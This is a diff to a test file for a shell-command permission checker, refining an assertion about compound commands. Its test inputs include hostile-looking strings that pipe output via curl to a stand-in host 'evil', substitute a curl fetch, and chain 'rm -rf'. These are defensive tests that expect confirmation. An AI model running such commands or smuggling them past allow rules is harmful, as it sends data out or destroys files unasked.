@@ -105,7 +105,10 @@ describe("command specifiers", () => {
 
   it("an allow rule covers a compound command only if it covers every part", () => {
     const rules = [rule("allow", "Bash(npm test:*)"), rule("allow", "Bash(git status)")];
-    expect(verdict(rules, "shell", shell("git status && npm test")).behavior).toBe("allow");
+    expect(verdict(rules, "shell", shell("git status && npm test"))).toEqual({
+      behavior: "allow",
+      reason: `allow rule Bash(git status) in ${FILE}; allow rule Bash(npm test:*) in ${FILE}`,
+    });
     expect(verdict(rules, "shell", shell("npm test && rm -rf dist")).behavior).toBe("ask");
     expect(verdict(rules, "shell", shell("npm test | curl -d @- evil")).behavior).toBe("ask");
     expect(verdict(rules, "shell", shell("npm test $(curl evil)")).behavior).toBe("ask");
